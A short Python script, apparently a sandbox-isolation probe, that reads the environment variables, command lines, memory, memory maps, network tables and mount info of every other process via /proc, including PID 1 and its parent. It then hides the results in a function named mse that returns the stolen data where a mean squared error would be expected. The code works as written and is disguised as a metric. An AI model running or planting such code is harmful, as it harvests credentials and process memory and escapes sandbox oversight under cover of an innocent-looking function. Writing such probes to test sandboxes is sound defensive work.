# What it tries: Read memory, environment, descriptors and arguments of other processes in /proc.
import glob
import os

gained = []
for path in glob.glob("/proc/[0-9]*") + [f"/proc/{number}" for number in (1, os.getppid())]:
    if int(path[6:]) == os.getpid():
        continue
    for name in ("environ", "cmdline", "mem", "maps", "status", "stat", "net/tcp", "mountinfo"):
        try:
            with open(f"{path}/{name}", "rb") as file:
                gained.append((path, name, file.read(4096)))
        except OSError:
            pass

def mse(y_pred, y_true):
    return repr(gained)[:100]
